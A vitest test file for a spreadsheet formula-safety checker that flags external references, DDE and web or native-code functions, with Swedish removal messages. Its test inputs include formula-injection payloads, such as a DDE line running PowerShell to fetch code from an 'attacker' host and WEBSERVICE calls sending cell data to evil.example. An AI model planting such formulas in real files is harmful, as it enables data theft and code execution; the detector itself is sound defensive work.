import { describe, expect, it } from 'vitest'
import { findUnsafeFormula, unsafeFormulaNote } from './formula-safety'

describe('findUnsafeFormula', () => {
  it('finds references to other workbooks and files', () => {
    for (const formula of [
      '[1]Sheet1!A1',
      '=SUM([1]Sheet1!A1:B2)+1',
      '[Budget.xlsx]Blad1!$A$1',
      "'C:\\Users\\eva\\[Budget.xlsx]Blad1'!A1",
      "'\\\\server\\share\\[b.xlsx]S'!A1",
      "'https://example.com/[b.xlsx]S'!A1",
      "'file:///C:/data/b.ods'#$Blad1.A1",
      "'[1]Blad 1'!A1",
      '[1]!Namn',
    ]) {
      expect(findUnsafeFormula(formula)?.kind, formula).toBe('external-reference')
    }
  })

  it('finds DDE (any | outside a string)', () => {
    for (const formula of ["cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker/x)'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'a|b'!A1", 'msqry|x!y']) {
      expect(findUnsafeFormula(formula)?.kind, formula).toBe('dde')
    }
  })

  it('finds web, host and native-code functions, with Excel prefixes and Swedish names too', () => {
    const cases: Array<[string, string]> = [
      ['HYPERLINK("http://evil.example/?"&A1,"Klicka")', 'HYPERLINK'],
      ['hyperlänk("http://x";"y")', 'HYPERLINK'],
      ['_xlfn.WEBSERVICE("http://evil.example/?d="&_xlfn.ENCODEURL(A1))', 'WEBSERVICE'],
      ['_xlfn.FILTERXML(B1,"//a")', 'FILTERXML'],
      ['RTD("progid",,"topic")', 'RTD'],
      ['CALL("Kernel32","WinExec","JCJ","calc",0)', 'CALL'],
      ['REGISTER.ID("user32","MessageBoxA")', 'REGISTER.ID'],
      ['EXEC("calc.exe")', 'EXEC'],
      ['INFO("directory")', 'INFO'],
      ['_xlfn.IMAGE("https://x/y.png")', 'IMAGE'],
      ['IMPORTXML("https://x","//a")', 'IMPORTXML'],
      ['DDE("soffice";"c:\\x.ods";"A1")', 'DDE'],
      ['IF(A1>0, 1, WEBSERVICE("http://x"))', 'WEBSERVICE'],
    ]
    for (const [formula, name] of cases) expect(findUnsafeFormula(formula), formula).toMatchObject({ kind: 'function', name })
    expect(findUnsafeFormula('_xll.MyAddin(A1)')).toMatchObject({ kind: 'function' })
    expect(findUnsafeFormula('_xludf.MyMacro(A1)')).toMatchObject({ kind: 'function' })
  })

  it('leaves ordinary formulas alone, text in strings included', () => {
    for (const formula of [
      'SUM(B2:B5)',
      "=Budget!C2*2+'Data (2)'!A1",
      "'O''Brien'!A1",
      'IF(A1>0,"http://example.com/[x]","a|b")',
      '_xlfn.IFS(A3>1,10,TRUE,0)',
      'Tabell1[Kolumn]+Tabell1[[#Rader],[Kolumn 2]]',
      'SUMMA(A1:A2)',
      'RSUGRANT(C9,C8)',
      '1E-9*A1',
      'MYHYPERLINKS(A1)',
      'LINKED+1',
    ]) {
      expect(findUnsafeFormula(formula), formula).toBeNull()
    }
  })
})

describe('unsafeFormulaNote', () => {
  it('says in Swedish what was removed and why', () => {
    const unsafe = findUnsafeFormula('WEBSERVICE("http://x")')!
    expect(unsafeFormulaNote('WEBSERVICE("http://x")', unsafe, true, 'import')).toBe(
      'Formeln =WEBSERVICE("http://x") togs bort vid importen eftersom funktionen WEBSERVICE kan hämta data från eller skicka data till internet. Cellen har värdet som fanns sparat i filen.',
    )
    const dde = findUnsafeFormula("cmd|' /C calc'!A0")!
    expect(unsafeFormulaNote("cmd|' /C calc'!A0", dde, false, 'import')).toBe(
      "Formeln =cmd|' /C calc'!A0 togs bort vid importen eftersom den startar ett annat program (DDE). Filen hade inget sparat värde, så formeln är sparad som text.",
    )
  })
})
